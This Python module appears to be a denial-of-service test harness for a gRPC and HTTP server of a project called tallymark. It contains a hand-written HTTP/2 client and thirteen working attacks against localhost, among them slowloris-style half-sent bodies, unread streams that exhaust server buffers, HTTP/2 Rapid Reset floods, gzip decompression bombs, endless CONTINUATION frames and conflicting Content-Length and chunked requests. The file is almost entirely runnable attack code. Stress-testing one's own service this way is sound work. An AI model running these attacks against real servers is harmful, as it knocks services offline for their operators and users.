"""Hostile connections: attacks by the way in which a client sends and reads."""

from __future__ import annotations

import asyncio
import gzip
import struct
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import suppress
from functools import partial

from tallymark.v1 import event_log_pb2, model_registry_pb2

PROJECT = "projects/default"
LARGE = 4 * 1024 * 1024 - 1024
MODELS, LOG = "/tallymark.v1.ModelRegistry", "/tallymark.v1.EventLog"
DATA, HEADERS, RESET, SETTINGS, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
FRAME = 16 * 1024


# References to connections, which would be closed by garbage collection.
_OPEN_CONNECTIONS: list[object] = []


class Streams:
    """An HTTP/2 connection that sends and never reads answers. Of received frames, only flow control has an effect."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, window: int) -> None:
        self._reader = reader
        self._writer = writer
        self._windows: Counter[int] = Counter({0: 65_535})
        self._initial = 65_535
        self._window_changed = asyncio.Event()
        self._next = 1
        self.ended = False
        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)))
        self._listening = asyncio.create_task(self._listen())
        _OPEN_CONNECTIONS.append(self)

    @classmethod
    async def open(cls, address: str, window: int = 0) -> Streams:
        """Connect, with so many bytes as the window of each stream."""
        host, _, port = address.rpartition(":")
        return cls(*await asyncio.open_connection(host.strip("[]"), int(port)), window)

    async def _listen(self) -> None:
        with suppress(OSError, asyncio.IncompleteReadError):
            while True:
                head = await self._reader.readexactly(9)
                body = await self._reader.readexactly(int.from_bytes(head[:3], "big"))
                kind, flags, stream = head[3], head[4], int.from_bytes(head[5:], "big")
                if kind == WINDOW_UPDATE:
                    self._windows[stream] += int.from_bytes(body, "big")
                elif kind == SETTINGS and not flags & ACK:
                    self._writer.write(frame(SETTINGS, ACK, 0, b""))
                    for at in range(0, len(body), 6):
                        name, value = struct.unpack(">HI", body[at : at + 6])
                        self._initial = value if name == 4 else self._initial
                self._window_changed.set()
        self.ended = True
        self._window_changed.set()

    @property
    def name(self) -> tuple[str, int]:
        """The address and port of this end."""
        host, port, *_ = self._writer.get_extra_info("sockname")
        return host, port

    def begin(self, path: str, *more: tuple[str, str]) -> int:
        """Start a call, and return its stream."""
        stream, self._next = self._next, self._next + 2
        self._windows[stream] = 0
        self._writer.write(frame(HEADERS, END_HEADERS, stream, headers(path, *more)))
        return stream

    def reset(self, stream: int) -> None:
        """Reset the stream of a call."""
        self._writer.write(frame(RESET, 0, stream, struct.pack(">I", 8)))

    def close(self) -> None:
        """Close the connection."""
        self._writer.close()

    def write(self, data: bytes) -> None:
        """Write raw bytes."""
        self._writer.write(data)

    async def send(self, stream: int, data: bytes, *, end: bool) -> None:
        """Send data as flow control allows, until all is sent or the connection ends."""
        while data and not self.ended:
            room = min(self._windows[0], self._initial + self._windows[stream], FRAME, len(data))
            if room <= 0:
                self._window_changed.clear()
                await self._window_changed.wait()
                continue
            piece, data = data[:room], data[room:]
            self._writer.write(frame(DATA, END_STREAM if end and not data else 0, stream, piece))
            self._windows[0] -= room
            self._windows[stream] -= room
            await self._writer.drain()

    async def call(self, path: str, message: bytes, *more: tuple[str, str]) -> None:
        """Send a whole request."""
        await self.send(self.begin(path, *more), grpc_message(message), end=True)

    async def drain(self) -> None:
        """Wait until the server has received enough to write more."""
        await self._writer.drain()


def frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    """Return a frame of HTTP/2."""
    return len(body).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + body


def headers(path: str, *more: tuple[str, str]) -> bytes:
    """Return the headers of a call without compression."""
    fixed = ((":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"))
    lines = (*fixed, ("content-type", "application/grpc"), ("te", "trailers"), *more)
    return b"".join(b"\0" + _text(name) + _text(value) for name, value in lines)


def _text(text: str) -> bytes:
    data = text.encode()
    if len(data) < 127:
        return bytes((len(data),)) + data
    length, rest = bytearray((127,)), len(data) - 127
    while rest > 127:
        length.append(rest & 127 | 128)
        rest >>= 7
    return bytes([*length, rest]) + data


def grpc_message(data: bytes, *, compressed: bool = False) -> bytes:
    """Return a message with its gRPC prefix."""
    return bytes((compressed,)) + len(data).to_bytes(4, "big") + data


class Target:
    """The addresses of the attacked server."""

    def __init__(self, grpc: str, http: str) -> None:
        self.grpc = grpc
        self.http = http

    async def raw(self, address: str, data: bytes) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Connect to an address, and write bytes."""
        host, _, port = address.rpartition(":")
        reader, writer = await asyncio.open_connection(host, int(port), limit=4096)
        writer.write(data)
        return reader, writer


async def half_messages(target: Target) -> str:
    """Start 200 calls, each with a message of 4 MB without its last byte."""
    message = grpc_message(b"x" * LARGE)[:-1]

    async def one() -> None:
        streams = await Streams.open(target.grpc)
        await streams.send(streams.begin(f"{MODELS}/CreateModelVersion"), message, end=False)

    return await _repeat(200, one)


async def unread_lists(target: Target) -> str:
    """Start 750 lists on 150 connections, and read nothing."""
    request = model_registry_pb2.ListModelVersionsRequest(parent=f"{PROJECT}/models/large", page_size=1000)

    async def one() -> None:
        streams = await Streams.open(target.grpc)
        for _ in range(5):
            await streams.call(f"{MODELS}/ListModelVersions", request.SerializeToString())

    return await _repeat(150, one)


async def unread_watches(target: Target) -> str:
    """Start 200 watches of the whole log, and read nothing."""
    request = event_log_pb2.WatchRequest(parent=PROJECT, after_revision=0)
    return await _repeat(200, lambda: _unread(target, f"{LOG}/Watch", request.SerializeToString()))


async def idle_watches(target: Target) -> str:
    """Start 4,000 watches on 20 connections, and read nothing."""
    request = event_log_pb2.WatchRequest(parent=PROJECT)

    async def one() -> None:
        streams = await Streams.open(target.grpc)
        for _ in range(200):
            await streams.call(f"{LOG}/Watch", request.SerializeToString())

    return await _repeat(20, one)


async def unread_exports(target: Target) -> str:
    """Start 50 exports, and read nothing."""
    request = event_log_pb2.ExportRequest(parent=PROJECT)
    return await _repeat(50, lambda: _unread(target, f"{LOG}/Export", request.SerializeToString()))


async def _unread(target: Target, path: str, message: bytes) -> None:
    await (await Streams.open(target.grpc)).call(path, message)


async def half_posts(target: Target) -> str:
    """Send 300 bodies of 4 MB over HTTP without their last byte."""
    head = f"POST {MODELS}/CreateModel HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\n"
    data = f"{head}content-length: {LARGE + 1}\r\n\r\n".encode() + b" " * LARGE

    async def one() -> None:
        _, writer = await target.raw(target.http, data)
        await writer.drain()

    return await _repeat(300, one)


async def false_length(target: Target) -> str:
    """Send endless chunked bodies, each with a content-length of 2."""
    head = f"POST {MODELS}/CreateModel HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\n"
    begin = f"{head}content-length: 2\r\ntransfer-encoding: chunked\r\n\r\n".encode()
    chunk = b"10000\r\n" + b" " * 65_536 + b"\r\n"

    async def one() -> None:
        _, writer = await target.raw(target.http, begin)
        for _ in range(1000):
            writer.write(chunk)
            await writer.drain()

    return await _repeat(8, one)


async def unread_pages(target: Target) -> str:
    """Request large pages repeatedly on 300 connections, and read none."""
    request = b"GET /models/large.json?page_size=100 HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n"

    async def one() -> None:
        await target.raw(target.http, request * 50)

    return await _repeat(300, one)


async def unread_viewers(target: Target) -> str:
    """Open 1,100 streams of the dashboard, and read nothing."""
    request = b"GET /live HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n"

    async def one() -> None:
        await target.raw(target.http, request)

    return await _repeat(1100, one)


async def idle_sockets(target: Target) -> str:
    """Open 700 connections to each port, and send nothing or half of a header."""
    halves = {target.grpc: (b"", b"PRI * HTTP/2.0\r\n"), target.http: (b"", b"GET / HTTP/1.1\r\nho")}
    for address, beginnings in halves.items():
        for beginning in beginnings:
            await _repeat(350, partial(target.raw, address, beginning))
    return "1,400 connected"


async def rapid_reset(target: Target) -> str:
    """Start calls and reset them immediately."""
    streams, begun = await Streams.open(target.grpc), 0
    while not streams.ended and begun < 20_000:
        for _ in range(20):
            streams.reset(streams.begin(f"{MODELS}/ListModels"))
        begun += 20
        with suppress(ConnectionError):
            await streams.drain()
        await asyncio.sleep(0)
    return f"{begun} started"


async def gzip_bombs(target: Target) -> str:
    """Send messages of 100 kB that decompress to 100 MB."""
    bomb = grpc_message(gzip.compress(b"\0" * 100_000_000, 9), compressed=True)

    async def one() -> None:
        streams = await Streams.open(target.grpc, 65_535)
        for _ in range(20):
            stream = streams.begin(f"{MODELS}/CreateModel", ("grpc-encoding", "gzip"))
            await streams.send(stream, bomb, end=True)

    return await _repeat(8, one)


async def endless_headers(target: Target) -> str:
    """Send headers in an endless series of CONTINUATION frames."""

    async def one() -> None:
        streams = await Streams.open(target.grpc)
        streams.write(frame(HEADERS, 0, 1, headers(f"{MODELS}/GetModel")))
        more = b"".join(b"\0" + _text(f"x-{number}") + _text("y" * 1000) for number in range(15))
        for _ in range(2000):
            if streams.ended:
                return
            streams.write(frame(CONTINUATION, 0, 1, more))
            await streams.drain()

    return await _repeat(4, one)


async def _repeat(count: int, one: Callable[[], Awaitable[object]]) -> str:
    """Run an attack so many times, 50 of them concurrently, and return the counts of outcomes."""
    gate, outcomes = asyncio.Semaphore(50), Counter[str]()

    async def attempt() -> None:
        async with gate:
            try:
                # Connections that the server no longer reads from stay open too.
                async with asyncio.timeout(2):
                    _OPEN_CONNECTIONS.append(await one())
                outcomes["sent"] += 1
            except TimeoutError:
                outcomes["blocked"] += 1
            except OSError as error:
                outcomes[type(error).__name__] += 1

    await asyncio.gather(*(attempt() for _ in range(count)))
    return ", ".join(f"{number} {outcome}" for outcome, number in outcomes.most_common())


ATTACKS: dict[str, Callable[[Target], Awaitable[str]]] = {
    attack.__name__.replace("_", " "): attack
    for attack in (
        half_messages,
        unread_lists,
        unread_watches,
        idle_watches,
        unread_exports,
        half_posts,
        false_length,
        unread_pages,
        unread_viewers,
        idle_sockets,
        rapid_reset,
        gzip_bombs,
        endless_headers,
    )
}
